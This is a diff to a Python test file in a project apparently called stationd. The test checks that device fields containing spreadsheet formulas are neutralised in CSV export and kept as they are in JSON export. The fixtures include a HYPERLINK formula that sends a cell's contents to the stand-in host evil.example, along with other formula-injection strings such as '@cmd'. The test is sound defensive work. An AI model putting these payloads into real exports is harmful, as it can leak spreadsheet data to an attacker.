@@ -13,7 +13,7 @@ from stationd.export import device_rows, to_csv, to_json
 from stationd.store import open_store
 
 HOSTILE = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1)": "name",
+    '=HYPERLINK("http://evil.example/?"&A1)': "name",
     "+SUM(1,2)": "model",
     "-2+3": "serial",
     "@cmd": "ios_version",
@@ -25,7 +25,10 @@ HOSTILE = {
 async def test_formula_cells_are_neutralised_in_csv_and_kept_in_json(tmp_path: Path) -> None:
     async with open_store(tmp_path / "stationd.db") as store:
         await store.upsert_device(
-            "UDID-1", serial="-2+3", ecid=12, name='=HYPERLINK("http://evil.example/?"&A1)',
+            "UDID-1",
+            serial="-2+3",
+            ecid=12,
+            name='=HYPERLINK("http://evil.example/?"&A1)',
             facts={"product_type": "+SUM(1,2)", "product_version": "@cmd", "build_version": "\t=1+1"},
         )
         await store.upsert_device(
